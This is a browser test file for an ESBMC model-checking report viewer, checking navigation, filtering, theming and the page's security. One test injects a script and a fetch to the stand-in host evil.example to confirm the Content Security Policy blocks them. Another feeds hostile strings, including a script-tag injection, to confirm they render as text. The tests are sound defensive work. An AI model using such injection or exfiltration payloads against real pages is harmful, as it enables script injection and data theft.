import type { Browser } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PageFacts } from '../../src/page/page-data-of.ts';
import { finding, functionResult, hostileTexts, input, report, step, unit } from '../review/factories.ts';
import { findChromium, openChromium } from '../support/chromium.ts';
import { pageFacts } from './factories.ts';
import { openPage } from './open-page.ts';

const path = findChromium();
const lines = [
  'int sum(int *a, int n)',
  '{',
  '  int s = 0;',
  '  int n = 3;',
  '',
  '',
  '',
  '  i = n;',
  '  return a[i];',
  '}',
];
const sources: PageFacts['sources'] = {
  'src/a.c': { kind: 'shown', lines: lines.length, chunks: [{ start: 1, lines }] },
  'src/b.c': { kind: 'left-out', why: 'The file had changed.' },
};
const first = finding({ steps: [step(4, 'n', '3', 'main'), step(3, 'i', '0'), step(8, 'i', '3')] });
const second = finding(
  {
    file: 'src/b.c',
    kind: 'null-dereference',
    cwe: null,
    line: 2,
    comment: 'dereference failure: NULL pointer',
  },
  { status: 'existing', assumptions: ['`p` points to one `struct node`'] },
);
const patch = '--- a/src/a.c\n+++ b/src/a.c\n@@ -9 +9 @@\n-  return a[i];\n+  return i < 3 ? a[i] : 0;\n';
const facts = pageFacts({
  report: report({ findings: [first, second] }),
  sources,
  patches: new Map([[first.fingerprint, patch]]),
});
const hashOfFinding = `#/finding/${first.fingerprint}`;
const views = ['#/', '#/findings', hashOfFinding, '#/files', '#/file/src%2Fa.c', '#/units', '#/finding/gone'];

const isOwn = /^(?:#\/|https:\/\/(?:github\.example|cwe\.mitre\.org)\/)/;

const why = path === null ? ' (skipped: no Chromium on PATH)' : '';

describe.skipIf(path === null)(`in a browser${why}`, () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await openChromium(path ?? '');
  });
  afterAll(() => browser?.close());

  it('shows every view without a request and without a complaint', async () => {
    await using open = await openPage(browser, facts);
    for (const view of views) {
      await open.go(view);
      expect(await open.texts('main h1')).toHaveLength(1);
    }
    expect(await open.texts('#static')).toEqual([]);
    expect(open.heard).toEqual([]);
  });

  it('can load and run nothing else, whatever is put into it', async () => {
    await using open = await openPage(browser, facts);
    const ran = await open.page.evaluate(`(async () => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "stolen"';
      document.body.append(script);
      const sent = await fetch('https://evil.example/').then(() => true, () => false);
      return { title: document.title, sent };
    })()`);
    expect(ran).toEqual({ title: 'Overview · ESBMC', sent: false });
    expect(open.heard.filter((line) => line.includes('Content Security Policy')).length).toBeGreaterThan(1);
  });

  it('steps through a trace by keys, with what changes and the line where it does', async () => {
    await using open = await openPage(browser, facts);
    await open.go(hashOfFinding);
    const at = async () => ({
      line: (await open.texts('.line.current .number'))[0],
      changed: (await open.texts('.changed')).map((text) => text.replace(/\s+/g, ' ')),
      hash: (await open.hash()).split('/').slice(3).join('/'),
    });
    expect(await at()).toEqual({ line: '9', changed: [], hash: '' });
    await open.page.keyboard.press('k');
    expect(await at()).toEqual({ line: '8', changed: ['i0 → 3'], hash: '3' });
    await open.page.keyboard.press('ArrowLeft');
    expect(await at()).toEqual({ line: '3', changed: ['i0'], hash: '2' });
    await open.page.keyboard.press('Home');
    await open.page.keyboard.press('k');
    expect(await at()).toEqual({ line: '4', changed: ['n3'], hash: '1' });
    await open.page.keyboard.press('j');
    await open.page.keyboard.press('ArrowRight');
    expect((await at()).line).toBe('8');
    await open.page.keyboard.press('End');
    expect((await at()).line).toBe('9');
    expect(await open.texts('.status')).toEqual([expect.stringContaining('It goes wrong here')]);
  });

  it('opens at the step that a link names, and jumps to the one that is chosen', async () => {
    await using open = await openPage(browser, facts);
    await open.go(`${hashOfFinding}/2`);
    expect(await open.texts('.line.current .number')).toEqual(['3']);
    await open.page.click('.timeline li:nth-child(1) button');
    expect(await open.texts('.line.current .number')).toEqual(['4']);
    await open.page.click('.pane-title a');
    await open.page.waitForSelector('.file .line.current');
    expect(await open.texts('.file .line.current .number')).toEqual(['4']);
  });

  it('leads from one finding to the next', async () => {
    await using open = await openPage(browser, facts);
    await open.go(hashOfFinding);
    await open.page.keyboard.press('n');
    await open.page.waitForFunction('document.title.startsWith("src/b.c")');
    expect(await open.texts('.absent')).toEqual(['The file had changed.']);
    expect(await open.texts('.card')).toEqual([
      expect.stringContaining('p points to one struct node'),
      expect.stringContaining('n = 3'),
      expect.stringContaining('esbmc-action check src/b.c'),
    ]);
  });

  it('filters findings, and keeps the choice in its address', async () => {
    await using open = await openPage(browser, facts);
    await open.go('#/findings');
    expect(await open.texts('.row .place')).toEqual(['src/a.c:9', 'src/b.c:2']);
    await open.page.select('select[aria-label="Kind"]', 'null-dereference');
    expect(await open.texts('.row .place')).toEqual(['src/b.c:2']);
    await open.page.reload();
    expect(await open.texts('.row .place')).toEqual(['src/b.c:2']);
    await open.page.select('select[aria-label="Kind"]', '');
    await open.page.keyboard.press('/');
    await open.page.keyboard.type('return sum');
    expect(await open.texts('.row .place')).toEqual(['src/a.c:9', 'src/b.c:2']);
    await open.page.keyboard.type(' b.c');
    expect(await open.texts('.row .place')).toEqual(['src/b.c:2']);
    await open.page.keyboard.type(' nothing');
    expect(await open.texts('.pager [role=status]')).toEqual(['No finding is like that.']);
  });

  it('moves through a list by keys, and opens what has the focus', async () => {
    await using open = await openPage(browser, facts);
    await open.page.keyboard.press('f');
    await open.page.waitForSelector('.filters');
    await open.page.keyboard.press('j');
    await open.page.keyboard.press('j');
    await open.page.keyboard.press('k');
    await open.page.keyboard.press('Enter');
    await open.page.waitForSelector('.finding');
    expect(await open.hash()).toBe(hashOfFinding);
  });

  it('shows findings below their line in the source', async () => {
    await using open = await openPage(browser, facts);
    await open.go('#/file/src%2Fa.c/9');
    const next = await open.page.$eval('.line.current', (line) => line.nextElementSibling?.className);
    expect(next).toContain('notes');
    expect(await open.texts('.line.current .number')).toEqual(['9']);
    expect(await open.texts('.sign.bad')).toEqual(['●']);
  });

  it('shows an accepted patch, and gives it to whoever copies it', async () => {
    await using open = await openPage(browser, facts);
    await open.go(hashOfFinding);
    expect(await open.texts('.diff-added')).toEqual(['+  return i < 3 ? a[i] : 0;']);
    expect(await open.texts('.diff-removed')).toEqual(['-  return a[i];']);
    await open.page.click('.copy');
    await open.page.waitForFunction('document.querySelector(".copy").textContent !== "Copy patch"');
    const said = await open.texts('.copy');
    const selected = await open.page.evaluate('getSelection().toString()');
    expect(`${said[0]} ${selected}`).toMatch(/^Copied |\+ {2}return i < 3 \? a\[i\] : 0;/);
  });

  it('says what keys do, and does nothing with them meanwhile', async () => {
    await using open = await openPage(browser, facts);
    await open.page.keyboard.press('?');
    expect(await open.texts('dialog[open] h2')).toEqual(['Keys']);
    await open.page.keyboard.press('u');
    await open.page.keyboard.press('Escape');
    expect(await open.texts('dialog[open]')).toEqual([]);
    expect(await open.hash()).toBe('');
  });

  it('is dark where the reader wants it, by the system or by choice', async () => {
    const background = 'getComputedStyle(document.body).backgroundColor';
    await using light = await openPage(browser, facts);
    expect(await light.page.evaluate(background)).toBe('rgb(246, 248, 250)');
    await light.page.keyboard.press('t');
    expect(await light.page.evaluate(background)).toBe('rgb(13, 17, 23)');
    await light.page.reload();
    expect(await light.page.evaluate(background)).toBe('rgb(13, 17, 23)');
    await using dark = await openPage(browser, facts, { isDark: true });
    expect(await dark.page.evaluate(background)).toBe('rgb(13, 17, 23)');
    await dark.page.click('[aria-label="Light or dark"]');
    expect(await dark.page.evaluate(background)).toBe('rgb(246, 248, 250)');
  });

  it('fits on a phone', async () => {
    await using open = await openPage(browser, facts, { width: 390 });
    for (const view of views) {
      await open.go(view);
      expect(await open.page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(390);
    }
  });

  it('prints what it shows, without what is to be pressed', async () => {
    await using open = await openPage(browser, facts);
    await open.go(hashOfFinding);
    await open.page.emulateMediaType('print');
    const shown = (selector: string) =>
      open.page.evaluate(`getComputedStyle(document.querySelector('${selector}')).display !== 'none'`);
    expect([await shown('.top'), await shown('.controls'), await shown('.listing')]).toEqual([
      false,
      false,
      true,
    ]);
  });

  it('tells the essential without script', async () => {
    await using open = await openPage(browser, facts, { hasScript: false });
    expect(await open.texts('#static h1')).toEqual(['1 bug introduced']);
    expect((await open.texts('#static article h2'))[0]).toContain('a[i]');
    expect(open.heard).toEqual([]);
  });

  it('says once why nothing is known about many, and folds most of them', async () => {
    const unknown = (count: number, reason: string) =>
      Array.from({ length: count }, (_, index) => functionResult('unknown', `${reason}_${index}`, reason));
    const functions = [...unknown(2, 'memory'), ...unknown(12, 'time')];
    await using open = await openPage(browser, pageFacts({ report: report({ functions }) }));
    const cards = await open.texts('.columns .card');
    const card = cards.find((text) => text.startsWith('Nothing is known about these (14)')) ?? '';
    expect(card.match(/time(?!_)/g)).toHaveLength(1);
    expect(card.indexOf('time_7')).toBeLessThan(card.indexOf('memory_0'));
    expect(card).not.toContain('time_8');
    expect(card).toContain('4 more');
    await open.page.click('.columns details summary');
    await open.page.waitForFunction('document.body.textContent.includes("time_11")');
  });

  it('has few nodes with ten thousand units, and finds one of them', async () => {
    const units = Array.from({ length: 10_000 }, (_, index) => {
      const of = {
        file: `src/file${index % 700}.c`,
        entry: `f${index}`,
        origin: 'harness',
        functions: [],
        assumptions: [],
      };
      return { ...unit('proved', { seconds: index }), unit: { ...of, origin: 'harness' as const } };
    });
    await using open = await openPage(browser, pageFacts({ report: report({ units }), sources }));
    const nodes = 'document.querySelectorAll("*").length';
    for (const view of ['#/', '#/units', '#/units?sort=seconds']) {
      await open.go(view);
      expect(await open.page.evaluate(nodes)).toBeLessThan(1500);
    }
    expect((await open.texts('.units tbody code'))[0]).toBe('f9999');
    await open.page.keyboard.press('ArrowRight');
    expect(await open.texts('.pager [role=status]')).toEqual(['101 to 200 of 10000']);
    await open.page.keyboard.press('/');
    await open.page.keyboard.type('f1234');
    expect(await open.texts('.units tbody code')).toEqual(['f1234']);
  });

  it('shows the text of others as text', async () => {
    const findings = hostileTexts.map((hostile) => {
      const scene = {
        file: hostile,
        function: hostile,
        statement: hostile,
        inputs: [input(hostile, hostile)],
      };
      const steps = [step(1, hostile, hostile, hostile)];
      return finding({ ...scene, comment: hostile, steps }, { assumptions: [hostile], message: hostile });
    });
    const odd = pageFacts({
      report: report({
        findings,
        units: hostileTexts.map((hostile) => unit('unknown', { reason: hostile, entry: hostile })),
        skipped: hostileTexts.map((hostile) => ({ file: hostile, reason: hostile })),
        notes: hostileTexts,
      }),
      sources: { 'src/a.c': { kind: 'shown', lines: 24, chunks: [{ start: 1, lines: hostileTexts }] } },
      patches: new Map(findings.map(({ fingerprint }, index) => [fingerprint, hostileTexts[index] ?? ''])),
    });
    await using open = await openPage(browser, odd);
    const pages = findings.map(({ fingerprint }) => `#/finding/${fingerprint}/1`);
    for (const view of ['#/', '#/findings', '#/file/src%2Fa.c', '#/units', ...pages]) {
      await open.go(view);
      const strange = await open.page.$$eval(
        'img, iframe, object, embed, base, link, style ~ style, form[action], [onerror], [onclick], [src]',
        (found) => found.map((element) => element.outerHTML),
      );
      const links = await open.page.$$eval('a', (found) =>
        found.map((link) => link.getAttribute('href') ?? ''),
      );
      expect(strange).toEqual([]);
      expect(links.filter((href) => !isOwn.test(href))).toEqual([]);
      expect(await open.texts('main h1')).toHaveLength(1);
    }
    await open.go('#/file/src%2Fa.c');
    expect((await open.texts('.line code'))[3]).toBe('</details></table><script>alert(1)</script>');
    expect(open.heard).toEqual([]);
  });
});
